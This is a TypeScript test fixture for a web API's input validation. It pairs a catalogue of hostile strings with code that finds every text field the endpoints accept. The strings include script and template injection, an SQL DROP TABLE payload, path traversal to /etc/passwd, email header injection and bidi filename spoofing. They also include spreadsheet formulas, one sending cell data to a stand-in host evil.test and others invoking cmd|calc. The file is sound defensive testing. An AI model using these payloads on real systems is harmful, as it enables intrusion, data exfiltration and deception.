import type * as z from 'zod/mini'
import type { Endpoint } from '../api/endpoint.ts'
import { endpoints } from '../api/endpoints.ts'

interface Hostile {
  readonly text: string
  /**
   * Refused: no field takes it. Inert: whoever takes it shows it as it is, and nothing comes of it. Cleaned: what is
   * invisible in it is taken out.
   */
  readonly is: 'refused' | 'inert' | 'cleaned'
}

/** Text that means to be more than text, class by class, and what becomes of it. */
export const hostile = {
  html: { text: '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>', is: 'inert' },
  attribute: { text: `" onmouseover="window.pwned=1" x='`, is: 'inert' },
  template: { text: '{{constructor.constructor("window.pwned=1")()}} ${7*7} <%= 7*7 %>', is: 'inert' },
  sql: { text: `Robert'); DROP TABLE users; -- " or 1=1`, is: 'inert' },
  formula: { text: '=HYPERLINK("http://evil.test?"&A1,"x")', is: 'inert' },
  plus: { text: '+1+cmd|calc', is: 'inert' },
  at: { text: '@SUM(1+1)*cmd|calc', is: 'inert' },
  minus: { text: '-2+3+cmd|calc', is: 'inert' },
  path: { text: '../../../etc/passwd', is: 'inert' },
  emoji: { text: '👩‍🚒👨‍👩‍👧‍👦 José', is: 'inert' },
  combining: { text: `Z${'\u0335\u0336\u0337'.repeat(6)}algo`, is: 'inert' },
  arabic: { text: 'محمد بن سلمان', is: 'inert' },
  unbroken: { text: 'W'.repeat(58), is: 'inert' },
  lines: { text: 'Client\r\nBcc: everyone@evil.test', is: 'refused' },
  newline: { text: 'Client\nX-Injected: yes', is: 'refused' },
  nul: { text: 'Client\u0000', is: 'refused' },
  escape: { text: '\u001b[31mClient', is: 'refused' },
  override: { text: 'Client \u202egnp.exe', is: 'refused' },
  isolate: { text: 'Client \u2066x\u2069', is: 'refused' },
  zeroWidth: { text: 'Cli\u200bent\ufeff', is: 'cleaned' },
  softHyphen: { text: 'Cli\u00adent', is: 'cleaned' },
  wrapped: { text: '\u2068Client\u2069\u200e', is: 'cleaned' },
  separator: { text: 'Client\u2028x', is: 'refused' },
  tag: { text: 'Client\u{e0041}', is: 'refused' },
} as const satisfies Record<string, Hostile>
export type HostileName = keyof typeof hostile
export const hostileNames = Object.keys(hostile) as HostileName[]

interface Def {
  type: string
  innerType?: z.ZodMiniType
  in?: z.ZodMiniType
  element?: z.ZodMiniType
  options?: z.ZodMiniType[]
  shape?: Record<string, z.ZodMiniType>
}

const defOf = (schema: z.ZodMiniType): Def => schema.def as unknown as Def

/** Whether text from outside gets into a value of the schema. */
const takesText = (schema: z.ZodMiniType): boolean => {
  const { type, innerType, in: input, element, options = [] } = defOf(schema)
  const inner = innerType ?? input ?? element
  return type === 'string' || (inner !== undefined && takesText(inner)) || options.some(takesText)
}

export interface TextField {
  /** `POST /api/crash-reports body.clientName`. */
  readonly name: string
  readonly schema: z.ZodMiniType
  /** Whether its values are arrays. */
  readonly many: boolean
}

/** Every field of every call, in body or query, that text gets in by. */
export const textFields: readonly TextField[] = (Object.values(endpoints) as Endpoint[]).flatMap(
  ({ method, path, body, query }) =>
    Object.entries({ body, query }).flatMap(([part, schema]) =>
      Object.entries((schema && defOf(schema).shape) ?? {})
        .filter(([, field]) => takesText(field))
        .map(([name, field]) => ({
          name: `${method} ${path} ${part}.${name}`,
          schema: field,
          many: defOf(field).type === 'array',
        })),
    ),
)

/** What a field makes of a text; undefined when it refuses it. */
export const taken = ({ schema, many }: TextField, text: string): unknown => schema.safeParse(many ? [text] : text).data

// Compared with what is kept, and never kept or shown itself.
const compared = /\.(\w*[pP]assword|\w*[tT]oken|invite|auth|lawFirmId)$/

/** The fields whose text is kept or looked for, and may be shown. */
export const openFields = textFields.filter(({ name }) => !compared.test(name))
